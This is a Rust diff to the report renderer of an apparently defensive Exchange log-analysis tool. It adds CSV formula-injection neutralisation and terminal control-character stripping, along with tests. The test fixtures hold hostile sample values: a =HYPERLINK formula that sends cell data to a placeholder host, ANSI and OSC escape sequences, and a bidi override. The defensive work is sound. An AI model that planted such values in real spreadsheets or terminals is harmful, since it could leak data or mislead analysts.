@@ -61,8 +61,9 @@ pub fn render(report: &Report, format: OutputFormat, color: bool, out: &mut dyn 
     }
 }
 
-/// One object per line: a `host` line (the host without its findings, with a count), then a
-/// `finding` line per finding (with the host's name), then a `skipped` line per unread file.
+/// One object per line: a `host` line (the host without its findings, with a count, and the
+/// run's `generated_at` and `rule_sets`), then a `finding` line per finding (with the host's
+/// name), then a `skipped` line per unread file.
 fn jsonl(report: &Report, out: &mut dyn Write) -> io::Result<()> {
     for host in &report.hosts {
         let mut summary = serde_json::to_value(host)?;
@@ -71,6 +72,8 @@ fn jsonl(report: &Report, out: &mut dyn Write) -> io::Result<()> {
             obj.insert("type".into(), "host".into());
             obj.insert("schema".into(), report.schema.clone().into());
             obj.insert("finding_count".into(), host.findings.len().into());
+            obj.insert("generated_at".into(), report.generated_at.clone().into());
+            obj.insert("rule_sets".into(), serde_json::to_value(&report.rule_sets)?);
         }
         serde_json::to_writer(&mut *out, &summary)?;
         writeln!(out)?;
@@ -120,28 +123,54 @@ fn csv_rows(report: &Report, out: &mut dyn Write) -> io::Result<()> {
         let verdict = host.verdict.to_string();
         let build = host.exchange_build.clone().unwrap_or_default();
         if host.findings.is_empty() {
-            w.write_record([host.name.as_str(), &verdict, &build, "", "", "", "", "", "", "", "", "", ""])?;
+            w.write_record(
+                [host.name.as_str(), &verdict, &build, "", "", "", "", "", "", "", "", "", ""]
+                    .map(|c| neutralise(c).into_owned()),
+            )?;
         }
         for f in &host.findings {
-            w.write_record([
-                host.name.as_str(),
-                &verdict,
-                &build,
-                &f.rule,
-                &f.title,
-                &f.severity.to_string(),
-                &f.stage.to_string(),
-                &f.cves.join(" "),
-                f.time.as_deref().unwrap_or(""),
-                &f.source,
-                &f.line.map(|l| l.to_string()).unwrap_or_default(),
-                &f.excerpt,
-                &serde_json::to_string(&f.detail)?,
-            ])?;
+            w.write_record(
+                [
+                    host.name.as_str(),
+                    &verdict,
+                    &build,
+                    &f.rule,
+                    &f.title,
+                    &f.severity.to_string(),
+                    &f.stage.to_string(),
+                    &f.cves.join(" "),
+                    f.time.as_deref().unwrap_or(""),
+                    &f.source,
+                    &f.line.map(|l| l.to_string()).unwrap_or_default(),
+                    &f.excerpt,
+                    &serde_json::to_string(&f.detail)?,
+                ]
+                .map(|c| neutralise(c).into_owned()),
+            )?;
         }
     }
     w.flush()?;
     Ok(())
+}
+
+/// OWASP's rule against CSV injection: a cell that a spreadsheet would read as a formula (it
+/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`. Log-derived
+/// text (excerpts, user agents, paths) is attacker-controlled.
+pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
+/// Text for a terminal: control characters (ANSI escapes, CR, NUL, backspace…) and the Unicode
+/// bidirectional overrides are dropped, so a log line cannot move the cursor, recolour, hide
+/// text or reorder what the analyst reads.
+pub fn printable(text: &str) -> std::borrow::Cow<'_, str> {
+    let bad = |c: char| {
+        c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    };
+    if text.chars().any(bad) { text.chars().filter(|&c| !bad(c)).collect::<String>().into() } else { text.into() }
 }
 
 struct Paint {
@@ -185,11 +214,22 @@ fn table(report: &Report, color: bool, out: &mut dyn Write) -> io::Result<()> {
         host_table(host, &p, out)?;
     }
     if !report.skipped.is_empty() {
-        writeln!(out, "{}", p.bold(&format!("Files that could not be read ({})", report.skipped.len())))?;
+        writeln!(out, "{}", p.bold(&format!("Files not read ({})", report.skipped.len())))?;
         for s in &report.skipped {
-            writeln!(out, "  {}\n      {}", s.path, s.reason)?;
+            writeln!(out, "  {}\n      {}", printable(&s.path), printable(&s.reason))?;
         }
         writeln!(out)?;
+    }
+    if !report.rule_sets.is_empty() {
+        let sets: Vec<String> = report
+            .rule_sets
+            .iter()
+            .map(|r| {
+                let skipped = if r.skipped > 0 { format!(", {} skipped", r.skipped) } else { String::new() };
+                format!("{} {} ({}{skipped})", r.kind, printable(&r.path), r.loaded)
+            })
+            .collect();
+        writeln!(out, "Rule sets: {}.", sets.join("; "))?;
     }
     let counts = |v: Verdict| report.hosts.iter().filter(|h| h.verdict == v).count();
     writeln!(
@@ -206,11 +246,20 @@ fn table(report: &Report, color: bool, out: &mut dyn Write) -> io::Result<()> {
 fn host_table(host: &Host, p: &Paint, out: &mut dyn Write) -> io::Result<()> {
     let rule = "═".repeat(78);
     writeln!(out, "{rule}")?;
-    writeln!(out, " {}  {}", p.bold(&host.name), p.verdict(host.verdict))?;
+    writeln!(out, " {}  {}", p.bold(&printable(&host.name)), p.verdict(host.verdict))?;
     writeln!(out, "{rule}")?;
-    writeln!(out, "{}\n", host.reason)?;
-    writeln!(out, "  Evidence   {}", host.evidence)?;
-    writeln!(out, "  Exchange   {}", host.exchange_build.as_deref().unwrap_or("unknown (no build in these logs)"))?;
+    writeln!(out, "{}\n", printable(&host.reason))?;
+    writeln!(out, "  Evidence   {}", printable(&host.evidence))?;
+    let window = match (&host.evidence_window.from, &host.evidence_window.to) {
+        (Some(f), Some(t)) => format!("{} → {} (the log rows and events read)", short_time(f), short_time(t)),
+        _ => "no dated log row or event was read".to_string(),
+    };
+    writeln!(out, "  Window     {window}")?;
+    writeln!(
+        out,
+        "  Exchange   {}",
+        printable(host.exchange_build.as_deref().unwrap_or("unknown (no build in these logs)"))
+    )?;
     for (i, patch) in host.patch.iter().enumerate() {
         let label = if i == 0 { "Patches" } else { "" };
         let fix = match (&patch.status[..], &patch.fixed_in) {
@@ -226,9 +275,10 @@ fn host_table(host: &Host, p: &Paint, out: &mut dyn Write) -> io::Result<()> {
         let label = if i == 0 { "Logs read" } else { "" };
         let span = match (&c.first, &c.last) {
             (Some(f), Some(l)) => format!("{} → {}", short_time(f), short_time(l)),
+            _ if c.source == "Files" => "swept (file times are not evidence times)".to_string(),
             _ => "no dated rows".to_string(),
         };
-        writeln!(out, "  {label:<10} {:<13} {:>5} file(s)  {span}", c.source, c.files)?;
+        writeln!(out, "  {label:<10} {:<13} {:>5} file(s)  {span}", printable(&c.source), c.files)?;
     }
     if host.coverage.is_empty() {
         writeln!(out, "  Logs read  none of the logs the checks read were found")?;
@@ -253,14 +303,21 @@ fn host_table(host: &Host, p: &Paint, out: &mut dyn Write) -> io::Result<()> {
                     (n, Some(last)) => format!("  (×{n}, last {})", short_time(last)),
                     (n, None) => format!("  (×{n})"),
                 };
-                writeln!(out, "    {when:<19}  {} {}  {}{repeat}", p.severity(g.severity), f.rule, f.title)?;
+                writeln!(
+                    out,
+                    "    {}  {} {}  {}{repeat}",
+                    printable(&format!("{when:<19}")),
+                    p.severity(g.severity),
+                    printable(&f.rule),
+                    printable(&f.title)
+                )?;
                 let place = match f.line {
                     Some(l) => format!("{}:{l}", f.source),
                     None => f.source.clone(),
                 };
-                writeln!(out, "{:25}{place}", "")?;
+                writeln!(out, "{:25}{}", "", printable(&place))?;
                 if !g.context.is_empty() {
-                    writeln!(out, "{:25}{}", "", g.context.join("  "))?;
+                    writeln!(out, "{:25}{}", "", printable(&g.context.join("  ")))?;
                 }
             }
             if groups.len() > PER_STAGE {
@@ -413,4 +470,75 @@ pub fn next_steps(host: &Host) -> Vec<String> {
 fn compare_builds(a: &str, b: &str) -> std::cmp::Ordering {
     let parts = |s: &str| s.split('.').map(|p| p.parse::<u64>().unwrap_or(0)).collect::<Vec<_>>();
     parts(a).cmp(&parts(b))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::{EvidenceWindow, Finding, Host, Report, Skipped};
+
+    fn hostile_report() -> Report {
+        let finding = Finding {
+            rule: "TF-X".into(),
+            title: "t".into(),
+            severity: Severity::High,
+            stage: Stage::Exploit,
+            cves: vec![],
+            time: Some("2021-03-03T04:00:00Z".into()),
+            source: "logs/u_ex\x1b[2J.log".into(),
+            line: Some(3),
+            excerpt: "=HYPERLINK(\"http://198.51.100.1/?\"&A1)".into(),
+            detail: serde_json::json!({"c-ip": "203.0.113.9\x1b]0;owned\x07", "UserAgent": "-cmd"})
+                .as_object()
+                .unwrap()
+                .clone(),
+        };
+        let host = Host {
+            name: "@SUM(1+1)\x1b[31mEXCH01\r\u{202e}".into(),
+            evidence: "ev".into(),
+            verdict: Verdict::Attempted,
+            reason: "reason with \x00 NUL and \x08 backspace".into(),
+            exchange_build: None,
+            patch: vec![],
+            coverage: vec![],
+            evidence_window: EvidenceWindow::default(),
+            unreadable_files: 0,
+            findings: vec![finding],
+            accounts: vec![],
+        };
+        Report::new(vec![host], vec![Skipped { path: "a\rb".into(), reason: "+1".into() }])
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+        let mut out = Vec::new();
+        render(&hostile_report(), OutputFormat::Csv, false, &mut out).unwrap();
+        let mut rows = csv::Reader::from_reader(out.as_slice());
+        let row = rows.records().next().unwrap().unwrap();
+        assert!(row[0].starts_with("'@SUM"), "{:?}", &row[0]);
+        assert!(row[11].starts_with("'=HYPERLINK"), "{:?}", &row[11]);
+        for cell in row.iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
+        }
+        assert_eq!(neutralise("-"), "'-");
+        assert_eq!(neutralise("\tx"), "'\tx");
+        assert_eq!(neutralise("2021-03-03"), "2021-03-03");
+        assert_eq!(neutralise(""), "");
+    }
+
+    #[test]
+    fn the_table_carries_no_control_characters_from_the_logs() {
+        let mut out = Vec::new();
+        render(&hostile_report(), OutputFormat::Table, false, &mut out).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let bad: Vec<char> = text.chars().filter(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}').collect();
+        assert!(bad.is_empty(), "{bad:?} in\n{text}");
+        assert!(text.contains("@SUM(1+1)[31mEXCH01"), "{text}");
+        assert!(text.contains("203.0.113.9]0;owned"), "{text}");
+        // With colour on, only our own escapes are there.
+        let mut out = Vec::new();
+        render(&hostile_report(), OutputFormat::Table, true, &mut out).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        assert!(!text.contains("\x1b[2J") && !text.contains("\x1b]0;") && !text.contains('\r'));
+    }
 }
